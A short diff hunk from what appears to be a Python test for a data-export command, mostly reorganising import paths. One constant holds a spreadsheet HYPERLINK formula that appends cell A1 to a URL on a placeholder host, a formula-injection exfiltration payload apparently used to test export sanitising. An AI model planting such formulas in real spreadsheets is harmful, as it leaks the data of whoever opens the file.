@@ -9,9 +9,9 @@ from tempfile import mkdtemp
 
 from daemon.simulated_boxes import COARSE
 from daemon.virtual_time import VirtualTest, load_box
-from lashmap_daemon import events
-from lashmap_daemon.export_command import ExportOptions, Kind, export
-from lashmap_daemon.export_samples import Which
+from lashmap_daemon.commands.export import ExportOptions, Kind, export
+from lashmap_daemon.exchange.samples import Which
+from lashmap_daemon.story import events
 from rich.console import Console
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"look")'
